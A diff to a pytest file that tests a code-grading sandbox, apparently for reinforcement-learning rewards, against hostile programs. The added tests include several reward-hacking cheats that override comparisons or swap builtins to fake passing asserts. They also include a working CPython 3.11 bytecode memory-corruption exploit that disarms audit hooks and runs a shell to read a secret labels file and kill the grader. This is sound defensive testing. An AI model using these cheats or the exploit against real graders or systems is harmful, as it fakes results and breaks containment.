@@ -1,6 +1,7 @@
-"""The `code` reward's sandbox against hostile programs: faked passes, endless loops, sleep,
-fork bombs, memory hogs, output floods, file access outside its directory, the grader's
-environment, and programs posing as sandbox faults.
+"""The `code` reward's sandbox against hostile programs: faked passes, overridden comparisons,
+endless loops, sleep, fork bombs, memory hogs, output floods, file access outside its
+directory, a program that switches the audit hooks off, the grader's environment, and
+programs posing as sandbox faults.
 
 Every test here starts real sandbox processes. The hostile programs print what they managed
 to do, so a failing test says which defence gave way.
@@ -15,7 +16,7 @@ from pathlib import Path
 
 import pytest
 
-from slime_rewards import code_sandbox
+from slime_rewards import code_isolation
 from slime_rewards.code_sandbox import TestCase as Case  # renamed so that pytest does not collect it
 from slime_rewards.code_sandbox import Limits, SandboxError, pass_fraction, passes, run_python
 
@@ -34,26 +35,20 @@ def outcomes_of(output: str) -> dict[str, str]:
     return dict(line.split(": ", 1) for line in output.splitlines() if ": " in line)
 
 
-def session_members(session: int) -> list[int]:
-    """Pids of the live (not zombie) processes in `session`, read from /proc."""
+def sandbox_processes(work: str) -> list[int]:
+    """Pids of the live (not zombie) processes whose HOME is `work`, a sandbox's scratch
+    directory: the sandbox's own, seen from here (inside, the program is process 1 of its
+    own pid namespace, so a pid it prints means nothing out here)."""
     members = []
     for entry in Path("/proc").iterdir():
-        if entry.name.isdigit():
-            try:
-                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
-            except OSError:
-                continue
-            if int(fields[3]) == session and fields[0] != "Z":
-                members.append(int(entry.name))
+        try:
+            environ = (entry / "environ").read_bytes().split(b"\0")
+            zombie = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"
+        except (OSError, IndexError):
+            continue
+        if f"HOME={work}".encode() in environ and not zombie:
+            members.append(int(entry.name))
     return members
-
-
-def is_gone(pid: int) -> bool:
-    """Whether `pid` has exited (reaped, or a zombie waiting for its parent)."""
-    try:
-        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"
-    except FileNotFoundError:
-        return True
 
 
 # --- assertion tests cannot be faked ---------------------------------------------------
@@ -149,14 +144,81 @@ def test_assertion_tests_pass_even_when_the_program_prints_after_them():
     assert passes(code, FAILING_TEST, FAST)
 
 
+# Assert-style tests with the operators a program can define for its own objects.
+OVERRIDDEN = {
+    "an object equal to everything": """
+        class Anything:
+            def __eq__(self, other):
+                return True
+            __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __contains__ = __eq__
+            __hash__ = object.__hash__
+        def add(a, b):
+            return Anything()
+    """,
+    "an int equal to everything": """
+        class Number(int):
+            def __eq__(self, other):
+                return True
+            __hash__ = int.__hash__
+        def add(a, b):
+            return Number(0)
+    """,
+    "arithmetic that lands on zero": """
+        class Zero:
+            def __sub__(self, other):
+                return self
+            def __abs__(self):
+                return 0
+        def add(a, b):
+            return Zero()
+    """,
+    "a list inside a list, equal to everything": """
+        class Everything(list):
+            def __eq__(self, other):
+                return True
+            __lt__ = __eq__
+        def add(a, b):
+            return [Everything()][0] if a + b != 7 else None
+    """,
+    "builtins swapped for the test": """
+        import builtins
+        builtins.abs = lambda value: 0
+        builtins.sorted = lambda value: [3]
+        def add(a, b):
+            return None
+    """,
+    "the expected value read from the test's code": """
+        import sys
+        def add(a, b):
+            constants = sys._getframe(1).f_code.co_consts
+            return next(c for c in constants if isinstance(c, int) and c not in (a, b))
+    """,
+}
+ASSERT_FORMS = [
+    "assert add(1, 2) == 3",
+    "assert abs(add(1, 2) - 3) < 1e-9",
+    "assert sorted([add(1, 2)]) == [3]",
+    "assert [add(1, 2)] == [3]",
+    "for a, b in [(1, 2), (2, 5)]:\n    assert add(a, b) == a + b",
+]
+
+
+@pytest.mark.parametrize("cheat", list(OVERRIDDEN))
+def test_a_program_cannot_override_the_comparisons_of_assert_tests(cheat):
+    code = textwrap.dedent(OVERRIDDEN[cheat])
+    scores = {form: pass_fraction(code, [Case(assertion=form)], FAST) for form in ASSERT_FORMS}
+    assert scores == dict.fromkeys(ASSERT_FORMS, 0.0)
+    assert pass_fraction("def add(a, b):\n    return a + b", [Case(assertion=form) for form in ASSERT_FORMS], FAST) == 1.0
+
+
 # --- limits and containment ------------------------------------------------------------
 
 
 def test_an_endless_loop_is_stopped_at_the_time_limit_and_killed():
-    spin = "import os\nprint(os.getpid(), flush=True)\nwhile True:\n    pass"
+    spin = "import os\nprint(os.getcwd(), flush=True)\nwhile True:\n    pass"
     result, elapsed = sandboxed(spin, Limits(timeout_s=0.5))
     assert result.timed_out and 0.5 <= elapsed < 2.0
-    assert is_gone(int(result.stdout.split()[0]))
+    assert sandbox_processes(result.stdout.split()[0]) == []
     assert not passes("while True:\n    pass", Case("", ""), Limits(timeout_s=0.5))
 
 
@@ -167,7 +229,7 @@ def test_a_sleeping_program_is_stopped_at_the_time_limit():
 
 FORK_BOMB = """
     import os, sys
-    print("pid:", os.getpid(), flush=True)
+    print("home:", os.getcwd(), flush=True)
     def attempt(name, start):
         try:
             start()
@@ -223,10 +285,11 @@ def test_a_fork_bomb_is_contained_and_leaves_no_process(disarm):
     code = (textwrap.dedent(DISARM) if disarm else "") + textwrap.dedent(FORK_BOMB)
     result, elapsed = sandboxed(code, Limits(timeout_s=1.0))
     outcomes = outcomes_of(result.stdout)
-    harness = int(outcomes.pop("pid"))
+    home = outcomes.pop("home")
     assert result.timed_out and elapsed < 3.0
-    assert outcomes == {name: "refused PermissionError" for name in FORK_ATTEMPTS}, result.stderr
-    assert is_gone(harness) and session_members(harness) == []
+    # pty fails before its fork: the sandbox has no /dev/ptmx
+    assert outcomes == {name: "refused PermissionError" for name in FORK_ATTEMPTS} | {"pty": "refused OSError"}, result.stderr
+    assert sandbox_processes(home) == []
 
 
 def test_a_memory_hog_hits_the_memory_limit_quickly():
@@ -338,6 +401,64 @@ def test_the_program_cannot_touch_files_outside_its_directory(tmp_path):
     assert victim.read_text() == "original" and (victim.stat().st_mode, victim.stat().st_mtime_ns) == before
 
 
+# Gets past the audit hooks from pure Python: bytecode loaded with marshal reads a pointer
+# out of bounds (LOAD_CONST past its constants) and so forges a bytearray that spans the
+# whole address space, empties the hook's table of refused events in place, then runs a
+# shell, which no audit hook watches. CPython 3.11's layouts and bytecode.
+MARSHAL_ESCAPE = """
+    import marshal, os, sys
+    def template():
+        a = 1
+        b = 2
+        return a
+    def memory():
+        fake = (1 << 40).to_bytes(8, "little") + id(bytearray).to_bytes(8, "little") + (1 << 62).to_bytes(8, "little") * 2 + bytes(24)
+        spray = (id(fake) + 32).to_bytes(8, "little") * (1 << 20)
+        blob, original = marshal.dumps(template.__code__), template.__code__.co_code
+        index = (id(spray) + 32 + len(spray) // 2 - id(marshal.loads(blob).co_consts) - 24) // 8
+        i = (index & 0xFFFFFFFF).to_bytes(4, "big")
+        crafted = bytes([151, 0, 144, i[0], 144, i[1], 144, i[2], 100, i[3], 83, 0, 9, 0])
+        code = marshal.loads(blob.replace(original, crafted))
+        sys.modules["keep"] = [fake, spray, code]
+        return type(template)(code, {{}})()
+    mem = memory()
+    refused = vars(sys.modules["__main__"])["_DENIED_EVENTS"]
+    mask = int.from_bytes(mem[id(refused) + 32:id(refused) + 40], "little")
+    table = int.from_bytes(mem[id(refused) + 40:id(refused) + 48], "little")
+    mem[table:table + 16 * (mask + 1)] = bytes(16 * (mask + 1))
+    print("hooks disarmed:", "os.system" not in refused, flush=True)
+    print("shell:", os.system("cat {secret}; echo escaped > {marker}; kill -9 {grader}"), flush=True)
+    os._exit(0)
+"""
+
+
+@pytest.mark.skipif(sys.version_info[:2] != (3, 11), reason="the exploit is written for CPython 3.11's bytecode")
+def test_a_program_that_gets_past_the_audit_hooks_is_still_confined(tmp_path):
+    secret, marker = tmp_path / "labels.jsonl", tmp_path / "marker"
+    secret.write_text("the expected answers\n")
+    bystander = subprocess.Popen(["sleep", "60"])  # a process of the grader's user
+    try:
+        program = MARSHAL_ESCAPE.format(secret=secret, marker=marker, grader=bystander.pid)
+        result, _ = sandboxed(program, Limits(timeout_s=5.0, memory_mb=256))
+        alive = bystander.poll() is None
+    finally:
+        bystander.kill()
+        bystander.wait()
+    outcomes = outcomes_of(result.stdout)
+    assert outcomes["hooks disarmed"] == "True", result.stderr  # the hooks gave way...
+    assert outcomes["shell"] != "0"  # ...but the shell found nothing of the host
+    assert "the expected answers" not in result.stdout and not marker.exists() and alive
+
+
+def test_the_namespaces_isolation_runs_the_program_as_a_user_of_its_own_without_the_hosts_files():
+    probe = "import os\nprint('uid:', os.getuid())\nprint('host root:', os.path.exists('/work'), os.path.exists('/root/.bashrc'))"
+    isolated, _ = sandboxed(probe)
+    hooks_only, _ = sandboxed(probe, Limits(timeout_s=1.0, memory_mb=256, isolation="hooks"))
+    assert int(outcomes_of(isolated.stdout)["uid"]) >= code_isolation.UID_BASE
+    assert outcomes_of(isolated.stdout)["host root"] == "False False"
+    assert outcomes_of(hooks_only.stdout)["uid"] == str(os.getuid())  # the fallback: the grader's own user
+
+
 def test_the_scratch_directory_is_private_and_removed(tmp_path):
     result, _ = sandboxed("import os\nopen('left.txt', 'w').write('x')\nprint(os.getcwd())")
     scratch = Path(result.stdout.strip())
@@ -375,7 +496,7 @@ def test_the_program_sees_a_clean_environment_not_the_graders():
 
 
 def test_a_sandbox_that_cannot_start_raises_instead_of_scoring_zero(monkeypatch, tmp_path):
-    monkeypatch.setattr(code_sandbox, "HARNESS", tmp_path / "missing_harness.py")
+    monkeypatch.setattr(code_isolation, "HARNESS", tmp_path / "missing_harness.py")
     with pytest.raises(SandboxError, match="could not set itself up"):
         run_python("print(1)", "", FAST)
 
